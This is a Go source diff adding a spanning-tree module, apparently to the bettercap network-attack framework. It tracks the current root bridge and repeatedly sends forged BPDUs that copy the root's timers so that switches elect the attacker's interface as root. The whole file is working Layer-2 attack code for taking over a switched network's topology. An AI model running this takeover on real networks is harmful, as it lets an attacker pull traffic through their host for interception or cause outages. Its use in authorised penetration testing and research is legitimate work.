@@ -0,0 +1,89 @@
+package l2_recon
+
+import (
+	"bytes"
+	"time"
+
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+func (mod *L2Recon) ourBridgeID() packets.STPBridgeID {
+	return packets.STPBridgeID{
+		Priority: mod.priority,
+		HW:       mod.Session.Interface.HW,
+	}
+}
+
+// onBPDU keeps track of the current root bridge, once the takeover succeeds
+// the switches will advertise us as root.
+func (mod *L2Recon) onBPDU(bpdu *packets.STPBPDU) {
+	mod.neighboursLock.Lock()
+	defer mod.neighboursLock.Unlock()
+
+	if bytes.Equal(bpdu.RootID.HW, mod.Session.Interface.HW) {
+		if !mod.claimed {
+			mod.claimed = true
+			mod.Warning("the switches elected us root of the spanning tree")
+		}
+		return
+	}
+
+	if mod.root == nil || mod.root.RootID.String() != bpdu.RootID.String() {
+		mod.Info("root bridge of the spanning tree is %s", tui.Bold(bpdu.RootID.String()))
+		mod.Session.Events.Add("l2.recon.stp.root", bpdu.RootID.String())
+	}
+	mod.root = bpdu
+}
+
+func (mod *L2Recon) currentRoot() *packets.STPBPDU {
+	mod.neighboursLock.Lock()
+	defer mod.neighboursLock.Unlock()
+	return mod.root
+}
+
+func (mod *L2Recon) stpTakeover() {
+	defer mod.waitGroup.Done()
+
+	ours := mod.ourBridgeID()
+	claiming := false
+	lostTo := ""
+
+	for mod.Running() {
+		if root := mod.currentRoot(); root != nil {
+			if !ours.Less(root.RootID) {
+				if lostTo != root.RootID.String() {
+					lostTo = root.RootID.String()
+					mod.Error("can't take over the root bridge %s, its bridge ID is lower than %s", lostTo, ours)
+				}
+			} else {
+				// same protocol and timers of the current root
+				bpdu := &packets.STPBPDU{
+					Version:      root.Version,
+					Type:         root.Type,
+					RootID:       ours,
+					BridgeID:     ours,
+					PortID:       0x8001,
+					MaxAge:       root.MaxAge,
+					HelloTime:    root.HelloTime,
+					ForwardDelay: root.ForwardDelay,
+				}
+				if bpdu.Type == packets.STPTypeRST {
+					bpdu.Flags = packets.STPFlagsRSTDesignated
+				}
+
+				if err, raw := packets.NewSTPBPDU(mod.Session.Interface.HW, bpdu); err != nil {
+					mod.Error("error creating BPDU: %v", err)
+				} else if err = mod.Session.Queue.Send(raw); err != nil {
+					mod.Error("error sending BPDU: %v", err)
+				} else if !claiming {
+					claiming = true
+					mod.Warning("claiming the root of the spanning tree as %s", tui.Bold(ours.String()))
+				}
+			}
+		}
+
+		time.Sleep(mod.interval)
+	}
+}